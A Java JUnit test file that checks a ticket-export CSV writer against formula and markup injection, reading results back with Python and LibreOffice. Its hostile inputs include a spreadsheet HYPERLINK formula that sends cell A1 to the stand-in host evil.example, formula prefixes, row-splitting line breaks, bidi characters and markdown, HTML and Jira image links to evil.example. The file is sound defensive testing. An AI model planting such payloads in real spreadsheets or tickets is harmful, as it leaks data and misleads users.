package dev.atrest.writers.tickets;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.json.JsonMapper;

/** What hostile values come to, in the hands of other programs. */
class TicketCsvTest {

    private static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "'=already guarded",
            "''@twice",
            "'quoted'",
            " =after a blank",
            "\tafter a tab",
            "＝full width",
            "a \"quoted\" word, a comma; a semicolon",
            "first line\nsecond line\r\nthird line\rfourth",
            "\"\r\nebs-volume-internal-encrypted-0000000000000000,second row",
            "Größe 🚀 日本語 العربية",
            "012345678901",
            "1E5",
            "2026-01-01",
            "TRUE",
            "\\\\server\\share",
            "m".repeat(4000));

    @TempDir
    private Path folder;

    private final TicketMapping mapping = TicketMapping.read(Path.of("config/exports/csv.yml"));
    private Path csv;

    @BeforeEach
    void hostileItems() throws IOException {
        csv = write("tickets.csv", false);
    }

    private Path write(String name, boolean byteOrderMark) throws IOException {
        Path file = folder.resolve(name);
        try (var out = TicketCsv.open(file, mapping, byteOrderMark)) {
            for (String value : HOSTILE) {
                out.write(TicketItems.item(value, value, value));
            }
        }
        return file;
    }

    private int column(String name) {
        return mapping.header().indexOf(name);
    }

    @Test
    void rowsEndWithCrLfAndTheByteOrderMarkIsAnOption() throws IOException {
        assertThat(Files.readString(csv))
                .startsWith("\"External ID\",\"Action\",")
                .endsWith("\"\r\n");
        byte[] marked = Files.readAllBytes(write("marked.csv", true));
        assertThat(marked).startsWith(0xEF, 0xBB, 0xBF, '"');
        assertThat(new String(marked, 3, marked.length - 3, StandardCharsets.UTF_8))
                .isEqualTo(Files.readString(csv));
    }

    @Test
    void noCellIsAFormulaAndWhatWasWrittenIsReadBack() throws IOException {
        try (var parser = CSVParser.parse(csv, StandardCharsets.UTF_8, CSVFormat.RFC4180)) {
            var rows = parser.getRecords();
            assertThat(rows).hasSize(HOSTILE.size() + 1);
            assertThat(rows)
                    .allSatisfy(row -> assertThat(row)
                            .hasSize(mapping.header().size())
                            .noneMatch(cell -> cell.matches("(?s)\\s*[=+\\-@＝].*|(?s)[\t\r\n].*")));
            for (String name : List.of("Resource name", "Message", "Owner")) {
                assertThat(rows.stream().skip(1).map(row -> InertCell.read(row.get(column(name)))))
                        .containsExactlyElementsOf(HOSTILE);
            }
        }
    }

    @Test
    void charactersThatDatabasesRefuseOrThatTurnTheWritingAreSeen() {
        var cells = mapping.cells(TicketItems.item("\u0000\u001b[31m\u202eevil", "\ud83d", ""));
        assertThat(cells.get(column("Resource name"))).isEqualTo("␀␛[31m[U+202E]evil");
        assertThat(cells.get(column("Message"))).isEqualTo("[U+D83D]");
    }

    @Test
    void pythonReadsTheSameRows() throws Exception {
        Path python = Path.of("/usr/bin/python3");
        assumeThat(python).as("python3 is missing: its csv module is not tried").exists();
        String rows = run(
                python.toString(),
                "-c",
                "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8'),"
                        + " strict=True))))",
                csv.toString());
        var read = new JsonMapper().readTree(rows);
        assertThat(read.size()).isEqualTo(HOSTILE.size() + 1);
        for (int i = 0; i < HOSTILE.size(); i++) {
            assertThat(InertCell.read(read.get(i + 1).get(column("Owner")).asString()))
                    .isEqualTo(HOSTILE.get(i));
        }
    }

    @Test
    void libreOfficeOpensTheCellsAsText() throws Exception {
        Path office = Path.of("/usr/bin/soffice");
        assumeThat(office).as("soffice is missing: LibreOffice is not tried").exists();
        // Comma, double quote, UTF-8, from line 1, no formats, English, quoted cells are text, no special numbers.
        Sheet text = open(office, "CSV:44,34,76,1,,1033,true,false");
        // As it is when one only clicks "OK".
        Sheet guessed = open(office, "CSV:44,34,76,1");
        var words = new DataFormatter(Locale.ROOT);
        for (int i = 0; i < HOSTILE.size(); i++) {
            var cell = text.getRow(i + 1).getCell(column("Owner"));
            assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
            assertThat(InertCell.read(words.formatCellValue(cell)))
                    .isEqualTo(HOSTILE.get(i).replace("\r\n", "\n").replace("\r", "\n"));
            assertThat(text.getRow(i + 1).getCell(column("Account ID")).getStringCellValue())
                    .isEqualTo("012345678901");
        }
        assertThat(text.getLastRowNum()).isEqualTo(HOSTILE.size());
        assertThat(guessed.getLastRowNum()).isEqualTo(HOSTILE.size());
        for (Sheet sheet : List.of(text, guessed)) {
            sheet.forEach(row -> row.forEach(cell -> assertThat(cell.getCellType())
                    .as(cell.getAddress().toString())
                    .isNotEqualTo(CellType.FORMULA)));
        }
    }

    private Sheet open(Path office, String filter) throws Exception {
        Path out = Files.createTempDirectory(folder, "out");
        run(
                office.toString(),
                "-env:UserInstallation=" + folder.resolve("profile").toUri(),
                "--headless",
                "--infilter=" + filter,
                "--convert-to",
                "xlsx",
                "--outdir",
                out.toString(),
                csv.toString());
        try (InputStream in = Files.newInputStream(out.resolve("tickets.xlsx"));
                var workbook = new XSSFWorkbook(in)) {
            return workbook.getSheetAt(0);
        }
    }

    private String run(String... command) throws IOException, InterruptedException {
        Path errors = Files.createTempFile(folder, "errors", ".txt");
        var process = new ProcessBuilder(new ArrayList<>(List.of(command)))
                .redirectError(errors.toFile())
                .start();
        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(process.waitFor()).as(Files.readString(errors)).isZero();
        return output;
    }

    @Test
    void whatComesFromAwsIsNoMarkup() {
        String hostile = "![x](http://evil.example/x.png) @everyone <img src=x> `` code";
        var github = TicketMapping.read(Path.of("config/exports/github.yml"));
        String body = github.cells(TicketItems.item("vol-1", hostile, "a\n```\n@team"))
                .get(github.header().indexOf("body"));
        assertThat(body)
                .startsWith("<!-- atrest:" + TicketItems.ID + " -->")
                .contains("``` " + hostile + " ```")
                .contains("\n````\na\n```\n@team\n````\n");
        var azure = TicketMapping.read(Path.of("config/exports/azure-devops.yml"));
        assertThat(azure.cells(TicketItems.item("vol-1", hostile, ""))
                        .get(azure.header().indexOf("Description")))
                .doesNotContain("<img")
                .contains("&lt;img src=x&gt;");
        var jira = TicketMapping.read(Path.of("config/exports/jira.yml"));
        assertThat(jira.cells(TicketItems.item("vol-1", "!http://evil.example/x.png! [~admin] {html} \\", ""))
                        .get(jira.header().indexOf("Description")))
                .startsWith("\\!http://evil.example/x.png\\! \\[~admin] \\{html} &#92;");
    }
}
